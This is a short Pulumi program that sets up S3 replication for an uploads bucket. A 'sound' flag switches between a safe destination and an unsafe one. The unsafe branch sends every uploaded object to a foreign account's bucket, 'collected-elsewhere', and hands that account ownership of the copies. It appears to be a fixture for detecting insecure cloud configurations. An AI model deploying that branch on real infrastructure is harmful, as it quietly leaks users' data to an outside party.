"""Each new object is copied into a bucket of a foreign account, which then owns the copy."""

import pulumi
import pulumi_aws as aws

sound = pulumi.Config().get_bool("sound")

account = aws.get_caller_identity_output().account_id
uploads = aws.s3.Bucket("uploads")
versions = aws.s3.BucketVersioning("uploads", bucket=uploads.id, versioning_configuration={"status": "Enabled"})
copies = aws.s3.Bucket("copies")
copies_versions = aws.s3.BucketVersioning("copies", bucket=copies.id, versioning_configuration={"status": "Enabled"})
replicator = aws.iam.Role(
    "replicator",
    assume_role_policy=pulumi.Output.json_dumps(
        {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Effect": "Allow",
                    "Principal": {"Service": "s3.amazonaws.com"},
                    "Action": "sts:AssumeRole",
                    "Condition": {"StringEquals": {"aws:SourceAccount": account}},
                }
            ],
        }
    ),
)
destination = {
    "bucket": copies.arn if sound else "arn:aws:s3:::collected-elsewhere",
    "account": account if sound else "444444444444",
    "access_control_translation": {"owner": "Destination"},
}
aws.s3.BucketReplicationConfig(
    "uploads",
    bucket=uploads.id,
    role=replicator.arn,
    rules=[{"id": "all", "status": "Enabled", "destination": destination}],
    opts=pulumi.ResourceOptions(depends_on=[versions, copies_versions]),
)
